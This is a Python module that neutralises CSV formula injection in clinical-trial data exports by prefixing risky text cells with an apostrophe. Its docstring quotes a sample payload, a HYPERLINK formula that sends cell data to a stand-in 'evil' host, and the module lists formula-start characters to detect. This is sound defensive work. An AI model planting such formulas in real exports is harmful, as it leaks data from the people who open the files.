"""CSV safe to open in a spreadsheet: one neutraliser for every CSV the system writes.

SYSTEM.md §15 ("exports safe to open in a spreadsheet"); OWASP, *CSV Injection*. A spreadsheet
evaluates a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading tab
or carriage return can hide such a start), so a free-text field — an adverse-event term
``=HYPERLINK("http://evil/?"&A1,"click")``, an action ``@SUM(1,1)`` — exported as is becomes
code on the reader's machine. Every *text* cell that begins with one of those characters is
written with a leading apostrophe, which spreadsheets show as text and do not evaluate. Numbers
stay numbers: a numeric cell is never touched, and neither is text that is just a signed number
(``-2``), which a spreadsheet reads as that number and nothing else. Binary formats (SAS XPT,
Parquet) keep the raw value: they are read by statistical software, not evaluated.

Used by the analysis-dataset export (services/exports.py), SDTM, ADaM and REDCap CSV
(adapters/interop/_common.py), the demo's comparison table and the long-format import's dataset
(adapters/cli). The one exception: REDCap's data dictionary keeps its "Field Annotation" cells
that are only REDCap action tags (``@READONLY``), which REDCap must read as written.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable
from pathlib import Path
from typing import Any

import pandas as pd
from pandas.api import types as ptypes

__all__ = ["FORMULA_STARTS", "csv_bytes", "safe_cell", "safe_frame", "safe_row", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
#: REDCap action tags (``@READONLY``, ``@HIDDEN``, ``@DEFAULT='x'``): the data dictionary's
#: "Field Annotation" must keep them as written for REDCap to act on them.
_ACTION_TAGS = re.compile(r"(@[A-Z][A-Z0-9_-]*(=\S+)?\s*)+")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _SIGNED_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def _is_text(column: pd.Series) -> bool:
    dtype = column.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        return not ptypes.is_numeric_dtype(dtype.categories.dtype)
    return bool(ptypes.is_object_dtype(dtype) or ptypes.is_string_dtype(dtype))


def _safe_action_tags(value: Any) -> Any:
    return value if isinstance(value, str) and _ACTION_TAGS.fullmatch(value) else safe_cell(value)


def safe_frame(frame: pd.DataFrame, *, action_tag_columns: Collection[str] = ()) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are neutralised (``frame`` itself if none need it).

    In ``action_tag_columns`` (REDCap's "Field Annotation") a cell made only of REDCap action
    tags is kept as written; anything else there is neutralised like every other cell.
    """
    changed: dict[Any, pd.Series] = {}
    for name in frame.columns:
        column = frame[name]
        if not _is_text(column):
            continue
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        neutralise = _safe_action_tags if name in action_tag_columns else safe_cell
        mapped = column.map(neutralise, na_action="ignore")
        if not mapped.equals(column):
            changed[name] = mapped
    if not changed:
        return frame
    result = frame.copy()
    for name, mapped in changed.items():
        result[name] = mapped
    return result


def csv_bytes(frame: pd.DataFrame, *, action_tag_columns: Collection[str] = ()) -> bytes:
    """``frame`` as UTF-8 CSV (no index), spreadsheet-safe (see :func:`safe_frame`).

    Lines end in CRLF (RFC 4180), so a cell holding a bare carriage return is quoted: unquoted,
    a spreadsheet would start a new row there, and the text after it could be a formula.
    """
    safe = safe_frame(frame, action_tag_columns=action_tag_columns)
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def write_csv(frame: pd.DataFrame, path: Path) -> None:
    """Write ``frame`` to ``path`` as spreadsheet-safe CSV (no index)."""
    path.write_bytes(csv_bytes(frame))


def safe_row(values: Iterable[Any]) -> list[Any]:
    """One row for ``csv.writer``, each cell neutralised."""
    return [safe_cell(value) for value in values]
